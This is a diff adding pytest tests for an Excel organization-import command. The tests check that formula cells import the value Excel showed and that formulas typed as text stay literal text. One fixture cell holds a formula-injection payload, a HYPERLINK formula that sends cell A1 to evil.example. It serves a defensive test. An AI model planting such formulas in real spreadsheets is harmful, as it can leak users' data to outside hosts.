@@ -118,6 +118,57 @@ def test_a_semicolon_file_imports_organizations(tree, tmp_path):
     assert Organization.objects.get(code="D-A-9").parent == tree.a
 
 
+def replace_cell(path, cell: str, xml) -> None:
+    """Rewrite one cell of the first sheet: `xml(old)` gives the new `<c>` element from the old one."""
+    with zipfile.ZipFile(path) as source:
+        parts = {name: source.read(name) for name in source.namelist()}
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    start = sheet.index(f'<c r="{cell}"')
+    end = sheet.index("</c>", start) + len("</c>")
+    parts["xl/worksheets/sheet1.xml"] = (sheet[:start] + xml(sheet[start:end]) + sheet[end:]).encode()
+    with zipfile.ZipFile(path, "w") as target:
+        for name, data in parts.items():
+            target.writestr(name, data)
+
+
+def as_excel_saves_a_formula(path, cell: str, shown: str | None) -> None:
+    """Give the formula cell the value Excel showed (its cached value); None: never calculated."""
+    cached = f"<v>{shown}</v>" if shown is not None else ""
+    replace_cell(path, cell, lambda old: old.split("<v")[0].replace(">", ' t="str">', 1) + cached + "</c>")
+
+
+def test_a_formula_in_a_cell_imports_what_excel_showed_and_a_formula_typed_as_text_stays_text(tree, tmp_path):
+    path = xlsx(
+        tmp_path / "orgs.xlsx",
+        [
+            ["code", "name", "kind", "parent_code"],
+            ["D-A-9", '="Chi bộ "&"Khuổi Mò"', "Chi bộ trực thuộc", "D-A"],
+            ["D-A-8", '=HYPERLINK("http://evil.example/"&A1,"click")', "Chi bộ trực thuộc", "D-A"],
+        ],
+    )
+    as_excel_saves_a_formula(path, "B2", "Chi bộ Khuổi Mò")
+    typed = '<c r="B3" t="inlineStr"><is><t>=HYPERLINK("http://evil.example/"&amp;A1,"click")</t></is></c>'
+    replace_cell(path, "B3", lambda old: typed)  # typed with a leading apostrophe: a text cell, no formula
+
+    error, printed = command("import_organizations", path)
+
+    assert error is None, printed
+    names = dict(Organization.objects.filter(code__in=["D-A-8", "D-A-9"]).values_list("code", "name"))
+    assert names == {"D-A-9": "Chi bộ Khuổi Mò", "D-A-8": '=HYPERLINK("http://evil.example/"&A1,"click")'}
+
+
+def test_a_formula_never_calculated_is_a_row_error_not_an_empty_value(tree, tmp_path):
+    path = xlsx(
+        tmp_path / "orgs.xlsx", [["code", "name", "kind", "parent_code"], ["D-A-9", '="Chi bộ "&"X"', "cell", "D-A"]]
+    )
+    as_excel_saves_a_formula(path, "B2", None)  # a file written by a program, never opened in Excel
+
+    error, printed = command("import_organizations", path)
+
+    assert error is not None and "Row 2, column name:" in printed
+    assert not Organization.objects.filter(code="D-A-9").exists()
+
+
 @pytest.mark.parametrize(
     ("content", "encoding"),
     [
